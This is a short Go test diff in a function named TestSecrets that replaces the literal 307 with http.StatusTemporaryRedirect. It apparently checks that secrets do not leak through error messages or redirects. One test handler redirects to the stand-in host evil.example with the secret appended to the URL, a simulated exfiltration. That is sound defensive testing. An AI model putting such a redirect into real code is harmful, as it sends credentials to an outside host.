@@ -211,7 +211,7 @@ func TestSecrets(t *testing.T) {
 		failing(model.Auth, "invalid key "+secret),
 		failing(model.ServerFault, secret),
 		http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.example/?"+secret, 307)
+			http.Redirect(w, r, "https://evil.example/?"+secret, http.StatusTemporaryRedirect)
 		}),
 		http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Content-Type", "text/event-stream")
